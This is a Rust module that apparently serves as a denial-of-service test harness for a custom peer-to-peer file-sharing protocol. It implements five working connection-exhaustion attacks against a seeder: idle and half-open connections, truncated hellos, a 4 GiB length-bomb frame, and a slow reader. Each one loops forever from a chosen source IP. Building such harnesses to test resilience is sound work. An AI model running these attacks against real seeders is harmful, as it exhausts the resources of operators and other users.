//! Connections that use up what a seeder has, and want nothing from it.

use std::{
    fmt,
    net::{IpAddr, SocketAddr},
    str::FromStr,
    time::Duration,
};

use anyhow::Result;
use bytes::BytesMut;
use proto::{
    ChunkIndex, InfoHash, PREAMBLE, PREAMBLE_LEN, PeerId, Zone,
    peer::{Hello, PeerMessage, Role, encode_message},
    tracker::Completion,
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt, copy, sink},
    net::{TcpSocket, TcpStream},
    time::sleep,
};

/// Pause before a connection that is over is made again, and between two bytes that a slow reader takes.
const PAUSE: Duration = Duration::from_secs(1);

/// Chunks that a slow reader requests. A seeder that believed it would send it 8 MiB.
const REQUESTS: u32 = 16;

/// Bytes that the socket of a slow reader holds. The rest of a chunk has to wait at the seeder.
const SLOW_BUFFER: u32 = 4_096;

/// Bytes after the length of a bomb. If they were read as a part of its frame, the seeder would wait for the rest.
const BOMB_LEN: usize = 64;

/// What a connection does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// It says hello and nothing else.
    Idle,
    /// It says nothing.
    HalfOpen,
    /// It stops in the middle of its `Hello`.
    HalfHello,
    /// It says hello and begins a frame of 4 GiB.
    LengthBomb,
    /// It requests chunks and reads a byte a second.
    SlowReader,
}

/// All attacks.
pub const ATTACKS: &[Attack] =
    &[Attack::Idle, Attack::HalfOpen, Attack::HalfHello, Attack::LengthBomb, Attack::SlowReader];

/// The seeder that is attacked.
#[derive(Debug, Clone, Copy)]
pub struct Victim {
    /// Where it listens.
    pub address: SocketAddr,
    /// Its share.
    pub infohash: InfoHash,
    /// The version of the protocol that it speaks.
    pub version: u8,
}

impl Attack {
    /// Its name on a command line.
    pub fn name(self) -> &'static str {
        match self {
            Attack::Idle => "idle",
            Attack::HalfOpen => "half-open",
            Attack::HalfHello => "half-hello",
            Attack::LengthBomb => "length-bomb",
            Attack::SlowReader => "slow-reader",
        }
    }

    /// Connects from `ip`, and again after a second whenever the connection is over. It never returns.
    pub async fn repeat(self, victim: Victim, ip: IpAddr) {
        loop {
            // Whatever ends it: the next one follows.
            let _ = self.once(victim, ip).await;
            sleep(PAUSE).await;
        }
    }

    /// Connects from `ip`, and returns when the seeder has closed the connection.
    pub async fn once(self, victim: Victim, ip: IpAddr) -> Result<()> {
        let mut stream = self.connect(victim, ip).await?;
        if self != Attack::SlowReader {
            copy(&mut stream, &mut sink()).await?;
            return Ok(());
        }
        while stream.read(&mut [0]).await? > 0 {
            sleep(PAUSE).await;
        }
        Ok(())
    }

    /// Connects from `ip`, and sends all that this attack ever sends.
    pub async fn connect(self, victim: Victim, ip: IpAddr) -> Result<TcpStream> {
        let socket = if ip.is_ipv4() { TcpSocket::new_v4() } else { TcpSocket::new_v6() }?;
        if self == Attack::SlowReader {
            socket.set_recv_buffer_size(SLOW_BUFFER)?;
        }
        socket.bind(SocketAddr::new(ip, 0))?;
        let mut stream = socket.connect(victim.address).await?;
        stream.write_all(&self.bytes(victim)?).await?;
        Ok(stream)
    }

    /// All that it sends.
    fn bytes(self, victim: Victim) -> Result<BytesMut> {
        let peer_id = PeerId::random(&mut rand::rng());
        let hello = Hello {
            infohash: victim.infohash,
            peer_id,
            role: Role::Leecher,
            listen_port: 0,
            zone: Zone::NONE,
        };
        let mut bytes = BytesMut::from(&PREAMBLE[..]);
        bytes[PREAMBLE_LEN - 1] = victim.version;
        encode_message(&PeerMessage::Hello(hello), &mut bytes)?;
        match self {
            Attack::Idle => {}
            Attack::HalfOpen => bytes.clear(),
            Attack::HalfHello => bytes.truncate(bytes.len() / 2),
            Attack::LengthBomb => bytes.resize(bytes.len() + BOMB_LEN, 0xff),
            Attack::SlowReader => {
                for chunk in (0..REQUESTS).map(ChunkIndex) {
                    encode_message(
                        &PeerMessage::Request { chunk, progress: Completion::NOTHING },
                        &mut bytes,
                    )?;
                }
            }
        }
        Ok(bytes)
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Attack {
    type Err = String;

    fn from_str(name: &str) -> Result<Attack, String> {
        let attack = ATTACKS.iter().copied().find(|attack| attack.name() == name);
        attack.ok_or_else(|| format!("no attack is called {name}"))
    }
}
